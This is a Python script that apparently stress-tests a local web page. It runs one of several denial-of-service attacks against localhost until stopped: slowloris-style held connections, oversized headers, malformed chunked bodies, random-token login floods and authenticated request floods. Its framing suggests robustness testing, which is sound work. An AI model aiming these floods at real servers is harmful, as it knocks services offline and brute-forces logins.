"""Attacks on the web page from a process of their own, until SIGTERM; then what was done.

attacks.py KIND PORT TOKEN
"""

from __future__ import annotations

import secrets
import signal
import socket
import sys
import threading
import time
from collections import Counter, deque
from contextlib import suppress
from typing import Any, Callable, Deque, Dict

THREADS = 8
HELD_MAX = 400
HEAD = b"GET / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n"
done: Counter[str] = Counter()


def connected(port: int) -> socket.socket:
    done["connections"] += 1
    return socket.create_connection(("127.0.0.1", port), timeout=5)


def hold(port: int, begun: bytes, more: bytes) -> None:
    """Open as many connections as one can, and say as little as keeps them."""
    held: Deque[socket.socket] = deque()
    while True:
        one = connected(port)
        with suppress(OSError):
            one.sendall(begun)
        held.append(one)
        if len(held) > HELD_MAX // THREADS:
            held.popleft().close()
        for other in list(held) if more else ():
            with suppress(OSError):
                other.sendall(more)


def ask(port: int, request: Callable[[], bytes]) -> None:
    """Ask again and again."""
    while True:
        with suppress(OSError), connected(port) as one:
            one.sendall(request())
            answer = one.recv(65536)
            done[answer[9:12].decode("ascii", "replace")] += 1
            while one.recv(65536):
                pass


def form(token: str) -> bytes:
    body = f"token={token}".encode()
    return b"POST /login HTTP/1.1\r\nConnection: close\r\nContent-Length: %d\r\n\r\n%s" % (
        len(body), body
    )


def main(kind: str, port: int, token: str) -> None:
    """Attack until SIGTERM."""
    attacks: Dict[str, Callable[[], Any]] = {
        "silent": lambda: hold(port, b"", b""),
        "slow": lambda: hold(port, HEAD, b"a"),
        "huge": lambda: ask(port, lambda: HEAD + b"X: " + b"a" * 2_000_000),
        "chunked": lambda: ask(port, lambda: b"POST /login HTTP/1.1\r\n"
                               b"Transfer-Encoding: chunked\r\n\r\n" + b"f\r\nxxxxx" * 1000),
        "logins": lambda: ask(port, lambda: form(secrets.token_hex(40))),
        "unknown": lambda: ask(
            port, lambda: HEAD + f"Cookie: token={secrets.token_hex(40)}\r\n\r\n".encode()
        ),
        "pages": lambda: ask(
            port, lambda: HEAD + f"Authorization: Bearer {token}\r\n\r\n".encode()
        ),
    }

    def again() -> None:
        while True:
            with suppress(OSError):
                attacks[kind]()

    ended = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: ended.set())
    began_s = time.monotonic()
    for _ in range(THREADS):
        threading.Thread(target=again, daemon=True).start()
    ended.wait()
    took_s = time.monotonic() - began_s
    print(", ".join(f"{count / took_s:.0f} {what}/s" for what, count in done.most_common()))


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
